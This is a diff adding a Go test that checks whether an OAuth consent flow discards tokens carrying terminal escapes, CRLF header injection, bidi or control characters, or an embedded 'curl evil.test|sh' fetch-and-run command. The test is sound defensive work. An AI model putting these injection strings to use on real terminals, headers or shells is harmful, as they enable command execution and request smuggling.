@@ -2,6 +2,7 @@ package consent_test
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"net/http"
@@ -282,6 +283,41 @@ func TestTokensOfAnotherTypeAreRefused(t *testing.T) {
 			a := b.begin(c)
 			_, err = b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String())
 			want(t, err, tc.code, class)
+		})
+	}
+}
+
+// A token is printed for scripts, pasted and put into headers as it is.
+func TestATokenThatWouldActOnATerminalIsThrownAway(t *testing.T) {
+	t.Parallel()
+	for name, answer := range map[string]map[string]any{
+		"an escape":          {"access_token": "a\x1b]52;c;ZXZpbA==\x07"},
+		"a header":           {"access_token": "a\r\nX-Evil: 1"},
+		"a command":          {"access_token": "a\ncurl evil.test|sh\n"},
+		"another direction":  {"access_token": "a\u202eb"},
+		"one byte of C1":     {"access_token": "a\u009bb"},
+		"to renew with":      {"access_token": "fine", "refresh_token": "a\nb"},
+		"to renew with, DEL": {"access_token": "fine", "refresh_token": "a\x7fb"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b := start(t)
+			answer["token_type"] = "Bearer"
+			b.vendor.set(func(v *vendor) {
+				v.fault = func(w http.ResponseWriter, _ *http.Request) bool {
+					w.Header().Set("Content-Type", "application/json")
+					json.NewEncoder(w).Encode(answer) //nolint:errcheck // the answer is read by this test
+					return true
+				}
+			})
+			c := b.connection()
+			a := b.begin(c)
+			_, err := b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String())
+			want(t, err, "oauth.token-malformed", core.Refused)
+			c, getErr := b.Connections.Get(context.Background(), c.ID)
+			if getErr != nil || !c.Secrets[core.SecretAccessToken].Empty() || !c.Secrets[core.SecretRefreshToken].Empty() {
+				t.Errorf("it was kept: %v %v", c.Secrets, getErr)
+			}
 		})
 	}
 }
